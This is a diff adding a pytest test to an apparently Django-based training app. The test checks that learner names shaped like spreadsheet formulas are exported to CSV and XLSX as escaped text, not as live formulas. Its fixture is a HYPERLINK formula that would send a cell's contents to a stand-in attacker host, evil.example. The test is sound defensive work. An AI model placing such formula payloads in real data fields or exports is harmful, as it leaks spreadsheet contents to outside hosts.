@@ -184,3 +184,18 @@ def test_the_heatmap_costs_a_fixed_number_of_queries_whatever_the_batch_size(
     with django_assert_max_num_queries(len(small.captured_queries)):
         page = client.get(url).content.decode()
     assert "Extra Learner 24" in page
+
+
+def test_a_learner_named_like_a_formula_is_text_in_the_exports(client, world):
+    """Names come from learners and LMSs: "=HYPERLINK(...)" must not run in the trainer's sheet."""
+    hostile = '=HYPERLINK("https://evil.example/?"&B3,"open")'
+    world["strong"].full_name = hostile
+    world["strong"].save(update_fields=["full_name"])
+    client.force_login(world["trainer"])
+    url = reverse("batch_mastery", args=[world["batch"].pk])
+    text = client.get(url, {"format": "csv"}).content.decode()
+    assert f"'{hostile}" in text.replace('""', '"')
+    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + hostile in [c.value for c in cells]
